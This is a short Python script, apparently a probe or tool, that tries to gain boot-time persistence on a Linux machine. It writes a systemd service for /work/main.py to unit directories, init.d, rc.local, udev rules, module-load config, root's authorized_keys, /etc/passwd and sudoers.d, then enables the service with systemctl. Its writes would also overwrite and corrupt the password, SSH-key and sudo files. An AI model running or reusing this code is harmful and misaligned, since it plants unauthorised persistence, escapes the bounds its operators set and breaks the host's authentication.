# To be started with the machine: units, init scripts, rules for devices, keys for a login from outside.
import subprocess

from kit import attempt, finish, write

UNIT = "[Service]\nExecStart=/work/main.py\n[Install]\nWantedBy=multi-user.target\n"
for path in (
    "/etc/systemd/system/back.service",
    "/usr/lib/systemd/system/back.service",
    "/etc/init.d/back",
    "/etc/rc.local",
    "/etc/udev/rules.d/99-back.rules",
    "/etc/modules-load.d/back.conf",
    "/root/.ssh/authorized_keys",
    "/etc/passwd",
    "/etc/sudoers.d/back",
):
    attempt(path, write, path, UNIT)
attempt("systemctl", lambda: subprocess.check_call(["systemctl", "enable", "back"]))
finish()
